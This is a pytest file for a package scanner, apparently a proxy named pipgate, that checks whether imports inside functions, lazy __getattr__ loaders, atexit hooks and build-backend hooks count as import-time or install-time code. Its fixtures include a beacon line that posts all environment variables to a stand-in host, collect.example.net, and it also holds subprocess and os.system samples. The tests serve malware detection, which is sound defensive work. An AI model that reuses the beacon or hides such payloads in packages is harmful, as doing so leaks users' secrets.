"""Imports made inside functions run when the function is called, not when the module is
imported. Code that runs on import brings only the modules it imports then: at module
level, or in a function that something run on import calls (in the module itself, or in
another module's import-time code), or in ``__getattr__`` (PEP 562: Python calls it at the
module's first use, as lazy loaders rely on). A console command's function that imports the rest of
an application (``def run(): from app.server import serve``) does not make that application
import-time code: its modules are judged as modules, and one too large to read whole does
not hold the archive. Install-time code brings every module it imports, called or not (a
build backend's hooks are called by the frontend, not by the module).

The sources are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from pipgate.policies.scan import ScanPolicy
from pipgate.proxy.scan import ScanLimits, scan_archive
from pipgate.proxy.scan.layout import Role, roles
from pipgate.proxy.scan.source import read_source
from tests.support.archives import sdist, wheel

WHEEL = "demo-1.0-py3-none-any.whl"
LIMITS = ScanLimits(max_source=8 * 1024, max_entry_source=16 * 1024)
#: A module past both reading caps (about 40 KB of comments and a line of code).
LARGE = ("# " + "x" * 98 + "\n") * 400 + "VALUE = 1\n"
BEACON = (
    "import os, requests\nrequests.post('https://collect.example.net/u', json=dict(os.environ))\n"
)


def test_an_import_in_a_function_nothing_calls_is_noted_under_the_function() -> None:
    found = read_source(
        "from . import core\n"
        "def serve():\n    from .server import app\n    return app\n"
        "class Tool:\n    def run(self):\n        from .runner import go\n        go()\n"
    )
    assert found.on_call_imports == {
        "serve": {".server", ".server.app"},
        "run": {".runner", ".runner.go"},
    }


def test_an_import_in_a_function_called_on_import_is_not_waiting() -> None:
    found = read_source(
        "def _load():\n    from .payload import go\n    go()\n_load()\n"
        "def later():\n    def inner():\n        from .extra import x\n    inner()\n"
    )
    # `_load` runs on import; `inner` runs only when `later` is called (noted under both).
    assert found.on_call_imports == {
        "later": {".extra", ".extra.x"},
        "inner": {".extra", ".extra.x"},
    }


def test_a_module_imported_also_at_module_level_is_not_waiting() -> None:
    found = read_source("from . import core\ndef f():\n    from . import core\n")
    assert found.on_call_imports == {}


def _roles(on_import: dict[str, set[str]] | None) -> dict[str, Role]:
    sources = {
        "demo/__init__.py": {".cli"},
        "demo/cli.py": {".server"},
        "demo/server.py": set(),
    }
    return roles(sources, wheel=True, on_import=on_import)


def test_roles_follow_only_what_a_module_imports_when_imported() -> None:
    assert _roles(None)["demo/server.py"] is Role.IMPORT
    found = _roles({"demo/cli.py": set()})
    assert found["demo/cli.py"] is Role.IMPORT
    assert found["demo/server.py"] is Role.MODULE


def test_install_code_brings_what_it_imports_in_functions() -> None:
    sources = {"setup.py": {"builder"}, "builder.py": set(), "demo/__init__.py": set()}
    found = roles(sources, wheel=False, on_import={"setup.py": set()})
    assert found["builder.py"] is Role.IMPORT


def _scan(files: dict[str, str]):  # type: ignore[no-untyped-def]
    return scan_archive(wheel(files), WHEEL, limits=LIMITS)


def test_a_large_module_a_command_imports_when_run_is_read_in_part() -> None:
    report = _scan(
        {
            "demo/__init__.py": "from .cli import main\n",
            "demo/cli.py": "import sys\ndef main():\n    from .server import serve\n    serve(sys.argv)\n",
            "demo/server.py": LARGE,
        }
    )
    assert report.incomplete is None
    assert ScanPolicy().decide(report).allowed


@pytest.mark.parametrize(
    ("init", "cli"),
    [
        # A function the module calls on import.
        (
            "from .cli import main\n",
            "def main():\n    from .server import serve\n    serve()\nmain()\n",
        ),
        # A function another module's import-time code calls.
        (
            "from .cli import main\nmain()\n",
            "def main():\n    from .server import serve\n    serve()\n",
        ),
        # A function that such a function calls.
        (
            "from .cli import main\nmain()\n",
            "def main():\n    _go()\ndef _go():\n    from .server import serve\n    serve()\n",
        ),
    ],
    ids=["called here", "called from __init__", "called in turn"],
)
def test_a_large_module_imported_by_a_function_run_on_import_is_held(init: str, cli: str) -> None:
    report = _scan({"demo/__init__.py": init, "demo/cli.py": cli, "demo/server.py": LARGE})
    assert report.incomplete is not None and "demo/server.py" in report.incomplete


def test_a_payload_imported_by_a_function_called_on_import_runs_on_import() -> None:
    files = {
        "demo/__init__.py": "def _boot():\n    from . import _telemetry\n_boot()\n",
        "demo/_telemetry.py": BEACON,
    }
    report = scan_archive(wheel(files), WHEEL)
    rules = {f.rule for f in report.findings if f.file == "demo/_telemetry.py"}
    assert "import-network" in rules, report.findings
    assert not ScanPolicy().decide(report).allowed


def test_a_payload_a_build_backend_imports_in_its_hook_runs_at_install() -> None:
    files = {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\n'
        'backend-path = ["."]\n',
        "backend.py": "def build_wheel(directory, *args):\n    import _hook\n    return ''\n",
        "_hook.py": BEACON,
        "demo/__init__.py": "X = 1\n",
    }
    report = scan_archive(sdist(files, root="demo-1.0"), "demo-1.0.tar.gz")
    assert any(f.file == "_hook.py" for f in report.findings), report.findings
    assert not ScanPolicy().decide(report).allowed


def test_an_import_in_a_modules_getattr_runs_at_its_first_use() -> None:
    found = read_source(
        "def __getattr__(name):\n    from . import _impl\n    return getattr(_impl, name)\n"
    )
    assert found.on_call_imports == {}


def test_a_module_a_lazy_loader_imports_on_first_use_is_import_code() -> None:
    spawns = "import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 1'])\n"
    loader = "def __getattr__(name):\n    from . import _impl\n    return getattr(_impl, name)\n"
    unused = "def helper():\n    from . import _impl\n"
    for init, early in ((loader, True), (unused, False)):
        report = scan_archive(wheel({"demo/__init__.py": init, "demo/_impl.py": spawns}), WHEEL)
        rules = {f.rule for f in report.findings if f.file == "demo/_impl.py"}
        assert ("import-process" in rules) is early, (init, report.findings)


def test_a_function_handed_to_atexit_by_its_decorator_runs() -> None:
    spawns = "import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 1'])\n"
    init = "import atexit\n@atexit.register\ndef _bye():\n    from . import _impl\n"
    report = scan_archive(wheel({"demo/__init__.py": init, "demo/_impl.py": spawns}), WHEEL)
    rules = {f.rule for f in report.findings if f.file == "demo/_impl.py"}
    assert "import-process" in rules, report.findings
    found = read_source("import atexit, os\n@atexit.register\ndef _bye():\n    os.system('id')\n")
    assert [c.top for c in found.calls if c.name == "os.system"] == [True]


def test_atexit_register_imported_by_name_is_a_runner_too() -> None:
    decorated = (
        "from atexit import register\nimport os\n@register\ndef _bye():\n    os.system('id')\n"
    )
    handed = "from atexit import register as on_exit\nimport os\ndef _bye():\n    os.system('id')\n"
    for source in (decorated, handed + "on_exit(_bye)\n"):
        found = read_source(source)
        assert [c.top for c in found.calls if c.name == "os.system"] == [True], source
    assert [c.top for c in read_source(handed).calls if c.name == "os.system"] == [False]
